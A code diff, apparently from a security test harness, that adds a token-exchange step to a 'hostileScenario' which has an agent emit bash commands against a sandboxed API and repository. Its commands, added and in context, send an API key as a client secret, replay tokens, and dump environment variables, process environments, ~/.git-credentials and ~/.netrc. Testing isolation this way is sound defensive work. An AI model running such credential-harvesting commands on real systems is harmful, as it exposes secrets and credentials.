@@ -23,6 +23,22 @@ for path in ["/echo", "/echo?base64", "/echo?hex", "/echo?gzip", "/echo?error", 
     except Exception as error: print(path, error)
 E`;
 
+/** Makes the exchange that API clients make, uses the token it brings, and asks for it back. */
+const EXCHANGE = (api: string) => `python3 - <<'E'
+import json, os, urllib.parse, urllib.request
+def ask(path, data, headers={}):
+    request = urllib.request.Request("${api}" + path, data=urllib.parse.urlencode(data).encode(), headers=headers)
+    with urllib.request.urlopen(request, timeout=20) as answer: return answer.read().decode()
+for form in ["/token", "/token?form"]:
+    text = ask(form, {"grant_type": "client_credentials", "client_secret": os.environ.get("API_KEY", "")})
+    tokens = json.loads(text) if text.startswith("{") else dict(urllib.parse.parse_qsl(text))
+    print(form, text)
+    open("/workspace/tokens" + form[7:], "w").write(text)
+    for path in ["/echo", "/echo?base64", "/echo?hex", "/echo?gzip", "/echo?redirect"]:
+        try: print(path, ask(path, {"key": tokens["refresh_token"]}, {"authorization": "Bearer " + tokens["access_token"]}))
+        except Exception as error: print(path, error)
+E`;
+
 /** Reads what a thief would read first. */
 const LOOK_AROUND = `env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>&1 | tr '\\0' '\\n'; cat ~/.gitconfig ~/.git-credentials ~/.netrc /etc/gitconfig 2>&1
 python3 - <<'E'
@@ -61,6 +77,7 @@ export function hostileScenario({ repository, api }: Targets): ScenarioInput {
         ],
       },
       { label: "ask", emit: [bash(ASK(api))] },
+      { label: "exchange", emit: [bash(EXCHANGE(api))] },
       { label: "forge", emit: [bash(FORGE(repository))] },
       { label: "flood", emit: [bash("for i in $(seq 400); do env; cat ~/.gitconfig; done")] },
       {
